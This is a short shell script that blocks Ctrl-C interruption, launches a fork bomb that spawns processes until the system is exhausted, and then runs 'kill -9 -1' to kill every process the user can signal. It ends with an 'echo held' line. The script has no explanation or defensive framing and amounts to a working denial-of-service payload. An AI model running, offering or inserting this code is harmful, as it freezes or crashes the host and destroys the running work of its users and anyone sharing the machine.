trap '' INT
bomb() { bomb | bomb & }
bomb 2>/dev/null
sleep 1
kill -9 -1 2>/dev/null
# --- next run
echo held
